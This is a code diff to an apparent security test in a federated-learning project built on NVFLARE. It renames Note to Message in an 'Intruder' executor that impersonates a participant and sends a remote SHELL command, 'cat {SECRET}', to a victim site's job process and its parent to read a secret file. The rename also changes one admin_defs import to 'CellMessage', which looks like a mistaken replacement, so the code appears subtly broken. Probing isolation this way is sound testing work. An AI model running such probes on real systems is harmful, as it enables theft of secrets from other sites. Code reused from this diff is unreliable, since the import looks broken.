@@ -14,15 +14,15 @@ import torch
 from nvflare.apis.fl_constant import AdminCommandNames
 from nvflare.apis.shareable import Shareable
 from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
-from nvflare.fuel.f3.message import Message
-from nvflare.private.admin_defs import Message as AdminMessage
+from nvflare.fuel.f3.message import Message as CellMessage
+from nvflare.private.admin_defs import CellMessage as AdminMessage
 from nvflare.private.defs import SysCommandTopic
 
 from autofedavg.engines.flare import executor as executors
 from autofedavg.engines.flare.codec import as_letter
 from autofedavg.engines.flare.pushing import VERB
 from autofedavg.engines.flare.transport import TOPIC
-from autofedavg.federation.messages import Note
+from autofedavg.federation.messages import Message
 
 PATH = "flare_intruder.Intruder"
 VICTIM = "II"
@@ -48,14 +48,14 @@ class Intruder(executors.AutoFedAvgExecutor):
         return answer
 
     def _letters(self, model, fl_ctx) -> dict[str, str]:
-        notes = {
-            "hello": Note({}, {}),
-            "class_counts": Note({}, {}),
-            "evaluate": Note(model, {"split": "train"}),
-            "local_train": Note(model, {"t": 1, "T": 3}),
+        messages = {
+            "hello": Message({}, {}),
+            "class_counts": Message({}, {}),
+            "evaluate": Message(model, {"split": "train"}),
+            "local_train": Message(model, {"t": 1, "T": 3}),
         }
         told = {}
-        for verb, note in notes.items():
+        for verb, note in messages.items():
             (reply,) = (
                 fl_ctx.get_engine()
                 .send_aux_request(
@@ -74,7 +74,7 @@ class Intruder(executors.AutoFedAvgExecutor):
         """Past FLARE's own functions, to the job's process and to the one it is a child of."""
         cell = fl_ctx.get_engine().get_cell().core_cell
         worker = f"{VICTIM}.{fl_ctx.get_job_id()}"
-        letter = _letter("hello", Note({}, {}))
+        letter = _letter("hello", Message({}, {}))
         letter.set_peer_props({"who": "me"})
         show = AdminMessage(SysCommandTopic.SHELL, f"cat {SECRET}")
         asks = {
@@ -90,14 +90,16 @@ class Intruder(executors.AutoFedAvgExecutor):
         }
         told = {}
         for what, (target, channel, topic, payload) in asks.items():
-            reply = cell.send_request(channel, topic, target, Message(payload=payload), timeout=9)
+            reply = cell.send_request(
+                channel, topic, target, CellMessage(payload=payload), timeout=9
+            )
             code = reply.get_header(MessageHeaderKey.RETURN_CODE)
             said = getattr(reply.payload, "body", reply.payload)
             told[what] = f"{code} {reply.get_header(MessageHeaderKey.ERROR)} {said}"
         return told
 
 
-def _letter(verb: str, note: Note) -> Shareable:
+def _letter(verb: str, note: Message) -> Shareable:
     message = as_letter(note)
     message.set_header(VERB, verb)
     return message
